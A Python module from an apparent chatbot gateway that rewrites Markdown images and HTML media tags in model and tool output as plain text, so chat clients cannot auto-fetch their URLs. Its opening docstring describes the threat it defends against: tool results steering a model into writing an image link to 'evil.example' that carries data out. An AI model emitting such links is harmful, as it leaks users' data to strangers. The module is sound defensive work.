"""Model text made inert before a platform draws it: the platform-neutral rules.

What the model writes can repeat what a tool result said, and a tool result
can be written by anyone who can name a server. A remote image is the
dangerous part everywhere: the chat client fetches its URL by itself, so
``![x](http://evil.example/c?d=ALL_IPS)`` would send whatever the model put in
the URL to a stranger without anyone clicking. Markdown images (inline and
reference-style) and HTML tags that load a URL become plain text,
``alt (image: url)``, which the client shows and never fetches. Links, masked
links and the rest of HTML follow :mod:`botgateway.cards.links`;
:func:`inert_markup` applies both, and every adapter applies it (after its own
mention rules) to model and tool text on its way out.

Code is left as written (:mod:`botgateway.cards.code_spans`): an image inside
a code span or block is not drawn as one. :func:`sub_outside_code` lets each platform apply its own rules (Slack
mentions, DingTalk's @所有人) the same way, with a separate, look-alike
replacement for code where a platform still parses it. :func:`stable_cut`
keeps an append-only stream from sending half of a construct that would be
rewritten once complete.
"""

from __future__ import annotations

import re

from botgateway.cards.code_spans import code_ranges, open_code_start, sub_outside_code
from botgateway.cards.links import inert_links, open_link_start
from botgateway.strings import t

__all__ = ["code_ranges", "inert_images", "inert_markup", "stable_cut", "sub_outside_code"]

_ALT = r"(?P<alt>(?:[^\[\]\\\n]|\\.|\[(?:[^\[\]\\\n]|\\.)*\])*)"
"""Image alt text: brackets may nest once (``![a [b] c](u)``), escapes are kept."""
_DEST = r"(?P<url><[^<>\n]*>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))+)"
"""A link destination: ``<...>`` or a run without spaces whose parentheses balance once."""
_INLINE_IMAGE = re.compile(r"!\[" + _ALT + r"\]\(\s*" + _DEST + r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?\s*\)")
_REFERENCE_IMAGE = re.compile(r"!\[" + _ALT + r"\](?:\[(?P<ref>[^\[\]\n]*)\])?")
_DEFINITION = re.compile(r"^ {0,3}\[(?P<label>[^\[\]\n]+)\]:[ \t]*(?P<url><[^<>\n]*>|\S+)", re.MULTILINE)
_HTML_MEDIA = re.compile(
    r"<\s*(?:img|image|picture|source|video|audio|iframe|frame|embed|object|input|svg|use|link|track)\b[^>]*(?:>|\Z)",
    re.IGNORECASE,
)
_HTML_URL = re.compile(r"\b(?:src|srcset|href|xlink:href|poster|data|background)\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]+))", re.IGNORECASE)
_HTML_ALT = re.compile(r"\b(?:alt|title)\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]+))", re.IGNORECASE)
_BANG_BRACKET = re.compile(r"!\[")
_MAX_PASSES = 8
"""Images nested in alt text unwrap one level per pass; past this, what is left is broken by force."""

_MAX_CUTS = 8
"""Rounds of :func:`stable_cut` before it keeps to the last paragraph break."""
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_UNCLOSED_TAIL = re.compile(
    r"(?:<[^<>\n]*|(?i:&lt;)(?:(?!(?i:&gt;))[^<>\n])*|&[#a-zA-Z0-9]{0,8}|!\[[^\n]*|@[\w^.-]*|!)\Z"
)


def _as_text(alt: str, url: str, locale: str) -> str:
    """What an image becomes: its alt text and its address, as words the client will not fetch."""
    alt = " ".join(alt.replace("\\", "").split())
    url = url.strip().removeprefix("<").removesuffix(">").strip()
    if not url:
        return alt
    return t(locale, "image_as_text", alt=alt, url=url).strip()


def _definitions(text: str) -> dict[str, str]:
    """Reference definitions (``[label]: url``) by their normalized label."""
    return {" ".join(m.group("label").lower().split()): m.group("url") for m in _DEFINITION.finditer(text)}


def _html_value(pattern: re.Pattern[str], tag: str) -> str:
    match = pattern.search(tag)
    return next((group for group in match.groups() if group is not None), "") if match else ""


def _reference_images(text: str, locale: str) -> str:
    definitions = _definitions(text)

    def reference(m: re.Match[str]) -> str:
        label = m.group("ref") or m.group("alt")
        return _as_text(m.group("alt"), definitions.get(" ".join(label.lower().split()), ""), locale)

    return sub_outside_code(_REFERENCE_IMAGE, text, reference)


def _html_media(text: str, locale: str) -> str:
    return sub_outside_code(
        _HTML_MEDIA, text, lambda m: _as_text(_html_value(_HTML_ALT, m.group()), _html_value(_HTML_URL, m.group()), locale)
    )


def _one_pass(text: str, locale: str) -> str:
    """One kind of image rewritten; inline first, since ``![a](u)`` read as a reference would lose its URL."""
    changed = sub_outside_code(_INLINE_IMAGE, text, lambda m: _as_text(m.group("alt"), m.group("url"), locale))
    if changed == text and "![" in text:
        changed = _reference_images(text, locale)
    if changed == text:
        changed = _html_media(text, locale)
    return changed


def inert_images(text: str, locale: str) -> str:
    """``text`` with every image and media tag outside code turned into ``alt (image: url)`` text."""
    if "![" not in text and "<" not in text:
        return text
    for _ in range(_MAX_PASSES):
        changed = _one_pass(text, locale)
        if changed == text:
            break
        text = changed
    # What the patterns could not parse (brackets nested deeper) must still never draw as an image.
    text = sub_outside_code(_BANG_BRACKET, text, lambda m: "!\u200b[")
    return sub_outside_code(_HTML_MEDIA, text, lambda m: "&lt;" + m.group()[1:])


def inert_markup(text: str, locale: str) -> str:
    """``text`` safe for any Markdown renderer: images as text (:func:`inert_images`), then links, masked links
    and HTML by the link rule (:func:`~botgateway.cards.links.inert_links`). Platform rules (mentions) are the
    adapters' own; applying it twice changes nothing more."""
    return inert_links(inert_images(text, locale))


def stable_cut(text: str) -> int:
    """How much of a still-growing ``text`` can be streamed: all but a trailing construct that is not decided yet.

    An image, a link, a ``<…>`` control sequence or tag, an entity or an
    ``@mention`` is rewritten once complete, and text after a backtick that
    may still open a code span may yet become code; sending the first half
    would commit the stream to text the rewrite no longer starts with. A cut
    inside a link or a code span is taken again on what it keeps (which may
    end in a construct of its own); past a few rounds, the stream keeps to the
    last paragraph break, where nothing is open.
    """
    cut, by_tail = len(text), False
    for _ in range(_MAX_CUTS):
        head = text[:cut]
        holds = {open_code_start(head): False, open_link_start(head): False}
        if not by_tail:  # what a tail cut keeps ends before a "<", "&", "!" or "@": decided by it
            tail = _UNCLOSED_TAIL.search(head)
            holds[tail.start() if tail else None] = True
        shorter = min((hold for hold in holds if hold is not None), default=cut)
        if shorter >= cut:
            return cut
        cut, by_tail = shorter, holds[shorter]
    return min(cut, max((blank.end() for blank in _BLANK_LINE.finditer(text, 0, cut)), default=0))
